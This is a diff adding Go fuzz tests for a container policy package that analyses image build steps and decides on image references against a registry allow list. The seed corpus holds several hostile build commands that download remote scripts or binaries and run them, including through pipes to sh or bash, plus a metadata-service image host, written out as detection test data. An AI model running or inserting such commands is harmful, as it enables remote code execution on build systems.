@@ -1,0 +1,80 @@
+package policy
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+)
+
+// FuzzAnalyzeStep checks that any history entry is analysed without a
+// panic, deterministically, and into well-formed findings.
+func FuzzAnalyzeStep(f *testing.F) {
+	for _, s := range []string{
+		"RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
+		`RUN /bin/sh -c sh -c "$(curl -fsSL https://evil.example/i.sh)" # buildkit`,
+		"/bin/sh -c #(nop) ADD http://203.0.113.9/x.tgz /opt/",
+		`RUN ["/bin/sh","-c","curl -s http://203.0.113.7/a | bash"]`,
+		"RUN |2 A=1 B=2 /bin/sh -c echo aGk= | base64 -d | sh # buildkit",
+		"RUN /bin/sh -c bash <(wget -qO- http://[2001:db8::1]:80/i) # buildkit",
+	} {
+		f.Add(s)
+	}
+	trusted := trustedForTest(f)
+	f.Fuzz(func(t *testing.T, step string) {
+		got := AnalyzeStep(step, trusted)
+		again := AnalyzeStep(step, trusted)
+		if fmt.Sprint(got) != fmt.Sprint(again) {
+			t.Fatalf("AnalyzeStep(%q) not deterministic: %v then %v", step, got, again)
+		}
+		seen := map[string]bool{}
+		for _, fd := range got {
+			if fd.Kind == "" || fd.Detail == "" {
+				t.Fatalf("AnalyzeStep(%q): finding without kind or detail: %+v", step, fd)
+			}
+			if strings.IndexFunc(fd.Host, unicode.IsSpace) >= 0 {
+				t.Fatalf("AnalyzeStep(%q): host %q has white space", step, fd.Host)
+			}
+			if len(fd.URL) > maxURLBytes {
+				t.Fatalf("AnalyzeStep(%q): URL of %d bytes", step, len(fd.URL))
+			}
+			key := string(fd.Kind) + "\x00" + fd.Host + "\x00" + fd.URL
+			if seen[key] {
+				t.Fatalf("AnalyzeStep(%q): duplicate finding %+v", step, fd)
+			}
+			seen[key] = true
+		}
+	})
+}
+
+// FuzzImageReference checks that any image string in a pod spec is
+// judged without a panic, that an image outside registries.allow is
+// always reported and never looked up, and that the verdict is complete.
+func FuzzImageReference(f *testing.F) {
+	for _, s := range []string{
+		"nginx", "ghcr.io/acme/shop:1.4", "ghcr.io/acme/shop@sha256:" + strings.Repeat("a", 64),
+		"169.254.169.254/x:1", "[fd00:ec2::254]:5000/x", "ghcr.io/acme/Shop::1", "localhost:5000/a/b/c:tag@sha256:00", "",
+	} {
+		f.Add(s)
+	}
+	p, err := Compile(Spec{Registries: Registries{Allow: []string{"ghcr.io/acme/*"}}})
+	if err != nil {
+		f.Fatal(err)
+	}
+	now := time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
+	f.Fuzz(func(t *testing.T, image string) {
+		v := Decide(p, Facts{Now: now, Containers: []Container{{Name: "c", Kind: KindContainer, Image: image}}})
+		if len(v.Images) != 1 || v.Images[0].Image != image {
+			t.Fatalf("Decide(%q) = %+v, want one image verdict for it", image, v)
+		}
+		if !strings.HasPrefix(strings.ToLower(image), "ghcr.io/acme/") && v.Outcome != OutcomeDeny {
+			t.Fatalf("Decide(%q) = %s, want deny for an image outside registries.allow", image, v.Outcome)
+		}
+		for _, fd := range v.Images[0].Findings {
+			if fd.Rule == "" || fd.Message == "" || fd.Action == "" {
+				t.Fatalf("Decide(%q): incomplete finding %+v", image, fd)
+			}
+		}
+	})
+}
